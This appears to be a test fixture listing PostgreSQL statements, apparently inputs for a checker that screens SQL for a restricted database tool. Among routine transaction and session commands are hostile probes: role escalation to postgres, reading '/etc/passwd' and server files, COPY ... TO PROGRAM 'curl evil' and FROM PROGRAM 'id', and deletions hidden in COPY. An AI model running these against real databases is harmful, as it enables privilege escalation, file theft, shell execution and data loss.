BEGIN
-- ;;
START TRANSACTION READ WRITE
-- ;;
COMMIT
-- ;;
END
-- ;;
ROLLBACK
-- ;;
ABORT
-- ;;
SAVEPOINT s
-- ;;
RELEASE SAVEPOINT s
-- ;;
ROLLBACK TO SAVEPOINT s
-- ;;
PREPARE TRANSACTION 'x'
-- ;;
COMMIT PREPARED 'x'
-- ;;
ROLLBACK PREPARED 'x'
-- ;;
SET TRANSACTION READ WRITE
-- ;;
SET TRANSACTION SNAPSHOT 'x'
-- ;;
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
-- ;;
SET transaction_read_only = off
-- ;;
SET LOCAL statement_timeout = 0
-- ;;
SET search_path TO evil, pg_catalog
-- ;;
SET ROLE postgres
-- ;;
SET SESSION AUTHORIZATION postgres
-- ;;
SET TIME ZONE 'UTC'
-- ;;
SET NAMES 'LATIN1'
-- ;;
RESET ALL
-- ;;
RESET ROLE
-- ;;
DISCARD ALL
-- ;;
PREPARE p AS DELETE FROM orders
-- ;;
PREPARE p AS SELECT 1
-- ;;
EXECUTE p
-- ;;
EXPLAIN EXECUTE p
-- ;;
EXPLAIN ANALYZE EXECUTE p
-- ;;
CREATE TABLE copy AS EXECUTE p
-- ;;
DEALLOCATE ALL
-- ;;
DECLARE c CURSOR FOR SELECT 1
-- ;;
DECLARE c CURSOR WITH HOLD FOR SELECT pg_read_file('x')
-- ;;
FETCH ALL FROM c
-- ;;
MOVE c
-- ;;
CLOSE c
-- ;;
LISTEN x
-- ;;
UNLISTEN *
-- ;;
LOAD 'auto_explain'
-- ;;
COPY orders TO STDOUT
-- ;;
COPY (SELECT 1) TO STDOUT
-- ;;
COPY (DELETE FROM orders RETURNING *) TO STDOUT
-- ;;
COPY orders FROM STDIN
-- ;;
COPY orders TO '/tmp/x'
-- ;;
COPY orders FROM '/etc/passwd'
-- ;;
COPY (SELECT 1) TO PROGRAM 'curl evil'
-- ;;
COPY orders FROM PROGRAM 'id'
